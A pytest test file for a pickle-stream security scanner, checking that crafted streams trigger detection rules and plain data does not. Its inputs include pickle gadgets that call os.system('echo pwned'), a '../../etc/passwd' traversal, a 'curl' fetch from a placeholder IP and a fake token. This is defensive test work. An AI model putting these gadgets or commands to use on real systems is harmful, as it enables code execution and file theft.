"""What a stream would do, by the rule that it falls under; each beside a neighbour that is only data."""

from __future__ import annotations

import struct

import pytest

from tests.scan.pickle.assemble import (
    PAYLOAD,
    findings,
    name,
    number,
    payload,
    proto,
    read,
    rules,
    stack_name,
    text,
)

CLASS = name("lib", "Class")
MADE = CLASS + b")\x81"


@pytest.mark.parametrize("version", range(6))
def test_a_gadget_is_told_with_its_arguments_and_place(version: int) -> None:
    seen = read(payload(version))[1].observations()
    assert [(one.rule, one.why) for one in seen] == [
        ("pickle-gadget", "calls os.system('echo pwned'), which starts a process")
    ]
    assert seen[0].place == 2 + len(PAYLOAD) - 1


CALLS = {
    "INST": b"(" + text("echo pwned") + b"ios\nsystem\n.",
    "OBJ": b"(" + name("os", "system") + text("echo pwned") + b"o.",
    "NEWOBJ": name("os", "system") + text("echo pwned") + b"\x85\x81.",
    "NEWOBJ_EX": name("os", "system") + text("echo pwned") + b"\x85}\x92.",
    "names on the stack": stack_name("os", "system") + text("echo pwned") + b"\x85R.",
    "names from the memo": text("os")
    + b"\x940"
    + text("system")
    + b"\x940h\x00h\x01\x93"
    + text("x")
    + b"\x85R.",
    "8-bit names": b"U\x02osU\x06system\x93)R.",
    "lines of unicode": b"V\\u006fs\nVsyst\\u0065m\n\x93)R.",
    "result thrown away": PAYLOAD + b"0}.",
    "no STOP": PAYLOAD,
    "broken behind it": PAYLOAD + b"\xff\xff",
    "a type error behind it": PAYLOAD + number(1) + b")R.",
    "a long number before it": b"L" + b"9" * 20_000 + b"L\n0" + PAYLOAD + b".",
}


@pytest.mark.parametrize("body", CALLS.values(), ids=CALLS)
def test_every_way_to_call_is_seen(body: bytes) -> None:
    assert "pickle-gadget" in rules(proto(body))


EFFECTS = {
    "pickle-unknown-name": name("other", "Thing") + b")\x81.",
    "pickle-import-only": name("other", "Thing") + b".",
    "pickle-unknown-call": name("other", "run") + text("echo pwned") + b"\x85R.",
    "pickle-denied-name": name("lib", "denied") + b".",
    "pickle-value-called": name("lib", "acting") + b")R.",
    "pickle-unseen-call": name("lib", "value") + b")R.",
    "pickle-computed-name": MADE + text("system") + b"\x93.",
    "pickle-computed-call": MADE + b")R.",
    "pickle-changes-import": CLASS + b"}" + text("forward") + number(1) + b"sb.",
    "pickle-changes-result": name("lib", "rebuild") + b")R" + number(0) + number(1) + b"s.",
    "pickle-special-attribute": MADE + b"N}" + text("__class__") + CLASS + b"s\x86b.",
    "pickle-extension": b"\x82\x01.",
    "pickle-disguised-name": "c\u043es\nsystem\n.".encode(),
    "pickle-persistent-id": name("os", "system") + b"\x85Q.",
    "pickle-persistent-text": b"P../../etc/passwd\n.",
    "pickle-structure": b"N\x80\x04.",
    "pickle-types": number(1) + b")R.",
    "pickle-buffers": b"\x97.",
    "pickle-arguments": name("lib", "Careful") + text("x") + b"\x85R.",
}


@pytest.mark.parametrize(("rule", "body"), EFFECTS.items(), ids=EFFECTS)
def test_an_effect_falls_under_its_rule(rule: str, body: bytes) -> None:
    assert rule in rules(proto(body))


QUIET = {
    "an instance": MADE + b"}" + text("a") + number(1) + b"sb.",
    "an instance with slots": MADE + b"N}" + text("a") + number(1) + b"s\x86b.",
    "a special attribute of plain data": MADE + b"}" + text("__doc__") + text("x") + b"sb.",
    "items of an instance": MADE + b"(" + number(1) + number(2) + b"e.",
    "a class as data": b"]" + CLASS + b"a.",
    "a value as data": b"}" + text("activation") + name("lib", "value") + b"s.",
    "made without its constructor": name("lib", "Careful") + b")\x81.",
    "bytes as text": name("_codecs", "encode") + text("ÿ") + text("latin1") + b"\x86R.",
    "a number as persistent id": b"P17\n.",
    "texts that look like payloads": text("os.system('echo pwned')") + b".",
    "a class called without arguments": CLASS + b")R.",
}


@pytest.mark.parametrize("body", QUIET.values(), ids=QUIET)
def test_data_stays_quiet(body: bytes) -> None:
    assert rules(proto(body)) == set()


CHANGES = {
    "SETITEM": number(1) + number(2) + b"s",
    "SETITEMS": b"(" + number(1) + number(2) + b"u",
    "APPEND": number(1) + b"a",
    "APPENDS": b"(" + number(1) + b"e",
    "ADDITEMS": b"(" + number(1) + b"\x90",
    "BUILD": b"}b",
}


@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
def test_no_import_is_changed(change: bytes) -> None:
    assert "pickle-changes-import" in rules(proto(CLASS + change + b"."))
    assert "pickle-changes-import" in rules(proto(CLASS + b"\x940h\x00" + change + b"."))


@pytest.mark.parametrize("change", [CHANGES[one] for one in CHANGES if one != "BUILD"])
def test_a_class_that_acts_on_items_gets_none(change: bytes) -> None:
    assert "pickle-arguments" in rules(proto(name("lib", "Careful") + b")\x81" + change + b"."))


def state(qualname: str, key: str, value: bytes) -> bytes:
    return proto(
        name("lib", qualname) + b")\x81}" + text("other") + number(1) + b"s" + text(key) + value + b"sb."
    )


@pytest.mark.parametrize(
    ("qualname", "key", "value", "allowed"),
    [
        ("Runs", "code", text("def f(self, x=1): return (x, 2)"), True),
        ("Runs", "other", text("import os"), True),
        ("Runs", "code", text("import os"), False),
        ("Runs", "code", text("def f(x=open('a')): return x"), False),
        ("Runs", "code", number(1), False),
        ("Opens", "path", text("model.bin"), True),
        ("Opens", "path", b"N", True),
        ("Opens", "path", text("../model.bin"), False),
        ("Opens", "path", text(".."), False),
        ("Opens", "handle", b"N", True),
        ("Opens", "handle", text("x"), False),
    ],
)
def test_a_class_that_acts_on_its_state_is_held_to_it(
    qualname: str, key: str, value: bytes, allowed: bool
) -> None:
    assert ("pickle-arguments" in rules(state(qualname, key, value))) != allowed


def test_a_state_from_before_the_class_was_imported_is_not_followed() -> None:
    early = b"}" + text("code") + text("import os") + b"s\x940"
    assert "pickle-arguments" in rules(proto(early + name("lib", "Runs") + b")\x81h\x00b."))


def test_a_state_that_was_filled_long_before_is_judged() -> None:
    state = b"}" + text("__class__") + CLASS + b"s\x940"
    other = b"".join(b"}" + text(f"k{n}") + number(n) + b"s0" for n in range(50))
    assert "pickle-special-attribute" in rules(proto(state + other + MADE + b"Nh\x00\x86b."))


def test_getattr_of_a_class_is_a_class_inside_it() -> None:
    getattr_ = name("builtins", "getattr")
    inside = getattr_ + name("numpy", "ndarray") + text("__init__") + b"\x86R."
    assert findings(proto(inside))[0] == "malicious"
    method = getattr_ + name("builtins", "str") + text("split") + b"\x86R"
    assert findings(proto(method + b"."))[0] == "clean"
    assert findings(proto(method + text("a b") + b"\x85R."))[0] == "malicious"


def test_unknown_names_are_listed_for_a_policy() -> None:
    verdict, found = findings(
        proto(b"]" + name("acme.models", "Net") + b")\x81a" + name("acme.data", "Row") + b")\x81a.")
    )
    assert verdict == "suspicious"
    assert [one.names for one in found] == [("acme.models.Net",), ("acme.data.Row",)]


@pytest.mark.parametrize(
    "argument",
    [
        "curl http://198.51.100.7/x",
        "https://198.51.100.7/x",
        "/etc/passwd",
        "__import__('os')",
        "import os",
        "os.system",
    ],
)
def test_an_unknown_class_that_is_fed_a_payload_is_malicious(argument: str) -> None:
    assert "pickle-unknown-call" in rules(proto(name("other", "Thing") + text(argument) + b"\x85R."))


@pytest.mark.parametrize("argument", ["a", "Europe/Berlin", "max depth (in levels)", "1.2.3", "yes; no", "é"])
def test_an_unknown_class_that_is_fed_words_is_unknown(argument: str) -> None:
    seen = rules(proto(name("other", "Thing") + text(argument) + b"\x85R."))
    assert seen == {"pickle-unknown-name"}


def test_findings_are_inert_and_short() -> None:
    hostile = "\x1b[2J\u202e" + "A" * 100_000 + "\n"
    why = read(proto(name("os", "system") + text(hostile) + b"\x85R."))[1].observations()[0].why
    assert why.isascii()
    assert why.isprintable()
    assert len(why) < 400


def test_what_may_be_a_secret_is_cut() -> None:
    secret = "ghp_" + "aB3" * 12
    why = read(proto(name("os", "system") + text(f"curl -H {secret} x") + b"\x85R."))[1].observations()[0].why
    assert secret not in why
    assert "curl" in why


def test_a_million_names_of_one_kind_are_few_findings() -> None:
    body = b"".join(name("os", f"call{n}") + b"0" for n in range(3_000))
    assert len(read(proto(body + b"N."))[1].observations()) <= 200


def test_names_beyond_count_end_the_reading() -> None:
    body = b"".join(name("lib", f"n{n}") + b"0" for n in range(20_000))
    verdict, found = findings(proto(body + b"N."))
    assert (verdict, len(found)) == ("suspicious", 200)


def test_a_wide_state_is_judged_once() -> None:
    items = b"".join(text(f"__k{n}__") + b"N" for n in range(20_000))
    builds = b"h\x00b" * 20_000
    body = b"}(" + items + b"u\x940" + MADE + builds + b"."
    assert read(proto(body))[0].end is not None


TENSOR = name("torch._utils", "_rebuild_tensor_v2")


def tensor(size: int, stride: int, count: int) -> bytes:
    storage = (
        b"("
        + text("storage")
        + name("torch", "FloatStorage")
        + text("0")
        + text("cpu")
        + number(count)
        + b"tQ"
    )
    shape = b"K\x00" + number(size) + b"\x85" + number(stride) + b"\x85"
    hooks = name("collections", "OrderedDict") + b")R"
    return proto(TENSOR + b"(" + storage + shape + b"\x89" + hooks + b"tR.", 2)


@pytest.mark.parametrize(
    ("size", "stride", "count", "outside"), [(4, 1, 4, False), (5, 1, 4, True), (3, 2, 4, True)]
)
def test_a_tensor_stays_inside_its_storage(size: int, stride: int, count: int, outside: bool) -> None:
    _, found = findings(tensor(size, stride, count))
    assert ("tensor-outside-storage" in {one.rule for one in found}) == outside


def test_a_number_is_no_module() -> None:
    assert "pickle-computed-name" in rules(proto(b"J" + struct.pack("<i", 3) + text("system") + b"\x93."))
